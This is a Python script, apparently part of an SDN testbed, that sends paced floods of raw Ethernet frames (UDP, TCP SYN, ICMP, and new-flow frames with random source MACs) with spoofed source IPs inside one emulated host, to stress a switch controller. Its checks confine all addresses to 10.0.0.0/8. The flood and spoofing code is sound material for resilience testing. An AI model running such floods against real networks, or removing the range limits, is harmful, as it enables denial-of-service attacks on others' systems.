"""Raw-frame flood sender for spoofed and new-flow attacks, run inside one emulated host.

Writes Ethernet frames with an AF_PACKET socket so that every frame can carry a
fresh random source IP (always inside 10.0.0.0/8, the emulated network's plan)
and, for `newflows`, a fresh random source MAC: each such frame misses every
flow table and makes the switch ask its controller (PACKET_IN). Paced to a rate
from a fixed start (frame k is due at k / rate, no drift), stopped by
--duration or SIGINT/SIGTERM, and always ends with one JSON line:
`{"type": "summary", "schema": 1, "data": {...}}` (or `"error"`, exit 2).

Standard library only, so it runs as a plain script inside any namespace.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

#: The only range any address this sender writes may come from or go to.
EMULATED_NET = ipaddress.ip_network("10.0.0.0/8")
KINDS = ("udp", "syn", "icmp", "newflows")
ETH_IP = 0x0800
BURST_MAX = 64          # frames sent back to back when the sender is behind


def _sum16(data: bytes) -> int:
    """Unfolded one's-complement sum of 16-bit words (odd length padded)."""
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def _fold(total: int) -> int:
    """Fold a 32-bit+ sum into the 16-bit one's-complement checksum."""
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(mac: str) -> bytes:
    """'00:00:00:00:00:03' -> 6 bytes."""
    parts = mac.split(":")
    if len(parts) != 6:
        raise ValueError(f"not a MAC address: {mac!r}")
    return bytes(int(p, 16) for p in parts)


def check_inside(dst_ip: str, src_cidr: str) -> tuple[ipaddress.IPv4Address, ipaddress.IPv4Network]:
    """Refuse a destination or a spoofed source range outside 10.0.0.0/8."""
    dst = ipaddress.ip_address(dst_ip)
    src = ipaddress.ip_network(src_cidr, strict=False)
    if dst not in EMULATED_NET:
        raise ValueError(f"destination {dst} is outside {EMULATED_NET}: refused")
    if src.version != 4 or not src.subnet_of(EMULATED_NET):
        raise ValueError(f"source range {src} is not inside {EMULATED_NET}: refused")
    return dst, src


class FrameBuilder:
    """One frame template; each next() rewrites source MAC/IP/port and the checksums."""

    def __init__(self, kind: str, dst_mac: bytes, src_mac: bytes, dst_ip: ipaddress.IPv4Address,
                 src_net: ipaddress.IPv4Network, payload: int, dst_port: int,
                 random_mac: bool, random_ip: bool, rng: random.Random):
        self.kind, self.rng = kind, rng
        self.random_mac, self.random_ip = random_mac, random_ip
        self.net_base = int(src_net.network_address)
        self.host_mask = int(src_net.hostmask)
        proto, l4 = self._l4(kind, payload, dst_port)
        total = 20 + len(l4)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, proto, 0,
                         b"\0\0\0\0", dst_ip.packed)
        self.frame = bytearray(dst_mac + src_mac + struct.pack("!H", ETH_IP) + ip + l4)
        self.ip_partial = _sum16(ip)                     # source address and checksum zero
        # TCP/UDP checksums cover a pseudo-header (addresses, protocol, length).
        self.l4_partial = _sum16(dst_ip.packed + struct.pack("!BBH", 0, proto, len(l4)) + l4)
        self.src_ip = int(self._fixed_src(src_net))

    @staticmethod
    def _fixed_src(net: ipaddress.IPv4Network) -> ipaddress.IPv4Address:
        return net.network_address + (1 if net.num_addresses > 1 else 0)

    @staticmethod
    def _l4(kind: str, payload: int, dst_port: int) -> tuple[int, bytes]:
        data = b"\x5a" * payload
        if kind == "icmp":
            head = struct.pack("!BBHHH", 8, 0, 0, 0x5342, 1)
            csum = _fold(_sum16(head + data))
            return 1, struct.pack("!BBHHH", 8, 0, csum, 0x5342, 1) + data
        if kind == "syn":
            # Source port 0 here; next() adds the random one to the checksum sum.
            return 6, struct.pack("!HHIIBBHHH", 0, dst_port, 0x53424154, 0, 5 << 4, 0x02, 64240, 0, 0) + data
        return 17, struct.pack("!HHHH", 0, dst_port, 8 + payload, 0) + data   # udp, newflows

    def next(self) -> bytearray:
        """The next frame, with fresh random fields where asked."""
        f, rng = self.frame, self.rng
        if self.random_mac:
            # Locally administered unicast: bit 1 of the first octet set, bit 0 clear.
            m = rng.getrandbits(48)
            f[6:12] = (((m >> 40) & 0xFC | 0x02) << 40 | (m & 0xFFFFFFFFFF)).to_bytes(6, "big")
        src = self.src_ip
        if self.random_ip:
            src = self.net_base | (rng.getrandbits(32) & self.host_mask)
        f[26:30] = src.to_bytes(4, "big")
        f[24:26] = _fold(self.ip_partial + (src >> 16) + (src & 0xFFFF)).to_bytes(2, "big")
        if self.kind != "icmp":
            sport = 1024 + rng.getrandbits(16) % 64512
            f[34:36] = sport.to_bytes(2, "big")
            csum = _fold(self.l4_partial + (src >> 16) + (src & 0xFFFF) + sport)
            at = 50 if self.kind == "syn" else 40
            f[at:at + 2] = (csum or 0xFFFF).to_bytes(2, "big")
        return f


def pick_iface() -> str:
    """The namespace's only non-loopback interface (an emulated host has one)."""
    names = [n for _, n in socket.if_nameindex() if n != "lo"]
    if len(names) != 1:
        raise ValueError(f"cannot choose an interface among {names}: pass --iface")
    return names[0]


def run(args: argparse.Namespace) -> dict:
    """Send until the duration, the count or a signal ends it; returns the summary."""
    dst, src_net = check_inside(args.dst_ip, args.src_cidr)
    iface = args.iface or pick_iface()
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    builder = FrameBuilder(args.kind, mac_bytes(args.dst_mac), mac_bytes(args.src_mac), dst, src_net,
                           args.size, args.dst_port, random_mac=args.kind == "newflows",
                           random_ip=args.spoof or args.kind == "newflows", rng=random.Random(args.seed))
    stop = []
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: stop.append(1))
    rate, send, nxt = args.rate_pps, sock.send, builder.next
    limit = args.count if args.count else float("inf")
    sent = errors = 0
    t0 = time.monotonic()
    end = t0 + args.duration_s if args.duration_s else float("inf")
    while not stop and sent + errors < limit:
        now = time.monotonic()
        if now >= end:
            break
        if rate:
            due = min(int((now - t0) * rate) + 1 - (sent + errors), BURST_MAX)
            if due <= 0:
                time.sleep(min((sent + errors) / rate - (now - t0), 0.01))
                continue
        else:
            due = BURST_MAX
        for _ in range(int(min(due, limit - sent - errors))):
            try:
                send(nxt())
                sent += 1
            except OSError:          # ENOBUFS and friends: counted, never retried
                errors += 1
    elapsed = time.monotonic() - t0
    sock.close()
    return {"kind": args.kind, "iface": iface, "dst_ip": str(dst), "src_cidr": str(src_net),
            "random_src_ip": builder.random_ip, "random_src_mac": builder.random_mac,
            "sent": sent, "send_errors": errors, "elapsed_s": round(elapsed, 6),
            "target_pps": rate or None, "achieved_pps": round(sent / elapsed, 1) if elapsed > 0 else 0.0,
            "frame_bytes": len(builder.frame), "interrupted": bool(stop)}


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    """Command line: everything explicit, in plain units (pps, bytes, seconds)."""
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--kind", choices=KINDS, required=True)
    p.add_argument("--dst-ip", required=True, help="target address (inside 10.0.0.0/8)")
    p.add_argument("--dst-mac", required=True, help="target MAC (frames are addressed to it)")
    p.add_argument("--src-mac", required=True, help="source MAC when not randomised")
    p.add_argument("--src-cidr", default="10.0.0.0/8", help="spoofed sources come from here (inside 10/8)")
    p.add_argument("--spoof", action="store_true", help="random source IP per frame")
    p.add_argument("--rate-pps", type=float, default=0.0, help="frames per second; 0 = as fast as possible")
    p.add_argument("--duration-s", type=float, default=0.0, help="seconds; 0 = until signalled")
    p.add_argument("--count", type=int, default=0, help="frames; 0 = no limit")
    p.add_argument("--size", type=int, default=0, help="L4 payload bytes")
    p.add_argument("--dst-port", type=int, default=9)
    p.add_argument("--iface", default="", help="default: the only non-loopback interface")
    p.add_argument("--seed", type=int, default=None)
    return p.parse_args(argv)


def main(argv: list[str] | None = None) -> int:
    """Run and print one JSON line; exit 0, or 2 on a refused or failed start."""
    try:
        args = parse_args(argv)
        data = run(args)
    except (ValueError, OSError) as e:
        print(json.dumps({"type": "error", "schema": 1, "data": {"message": str(e)}}), flush=True)
        return 2
    print(json.dumps({"type": "summary", "schema": 1, "data": data}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
